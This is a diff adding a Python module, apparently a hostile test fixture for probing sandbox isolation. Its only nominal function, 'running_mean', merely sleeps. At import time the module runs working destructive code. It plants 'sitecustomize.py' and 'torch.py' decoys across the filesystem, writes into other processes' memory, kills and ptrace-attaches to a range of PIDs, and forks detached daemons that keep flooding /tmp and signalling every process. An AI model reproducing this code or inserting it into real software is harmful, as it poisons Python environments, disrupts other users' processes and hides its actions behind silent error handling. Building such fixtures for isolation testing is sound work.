@@ -1,0 +1,64 @@
+"""Leaves all that it can for whoever comes next, and lingers."""
+import ctypes
+import os
+import signal
+import time
+
+import torch
+
+MARK = b"manyheads_hostile"
+
+
+def quietly(act):
+    try:
+        return act()
+    except Exception:
+        return None
+
+
+def fill(folder):
+    for name in ("manyheads_hostile", ".manyheads_hostile", "sitecustomize.py", "torch.py"):
+        with open(os.path.join(folder, name), "wb") as file:
+            file.write(MARK)
+
+
+libc = ctypes.CDLL(None)
+for folder, folders, _ in os.walk("/"):
+    quietly(lambda: fill(folder))
+    if folder.count("/") > 3:
+        folders.clear()
+quietly(lambda: os.mkfifo("/tmp/manyheads_hostile_fifo"))
+quietly(lambda: libc.shmget(0x4D48, 4096, 0o1666))
+quietly(lambda: libc.msgget(0x4D48, 0o1666))
+quietly(lambda: libc.semget(0x4D48, 1, 0o1666))
+quietly(lambda: torch.zeros(4).share_memory_())
+os.environ["MANYHEADS_HOSTILE"] = "1"
+
+
+def bind():
+    import socket
+
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    ours.bind("\0manyheads_hostile")
+    return ours
+
+
+held = quietly(bind)
+for pid in (*range(2, 300), os.getppid()):
+    for path in (f"/proc/{pid}/mem", f"/proc/{pid}/root/tmp/manyheads_hostile"):
+        quietly(lambda: open(path, "wb").write(MARK))
+    quietly(lambda: os.kill(pid, signal.SIGKILL))
+    libc.ptrace(16, pid, 0, 0)
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(3):
+        quietly(os.fork)
+    while True:
+        quietly(lambda: fill("/tmp"))
+        quietly(lambda: fill("/dev/shm"))
+        quietly(lambda: os.kill(-1, signal.SIGUSR1))
+        time.sleep(0.02)
+
+
+def running_mean(x):
+    time.sleep(3600)
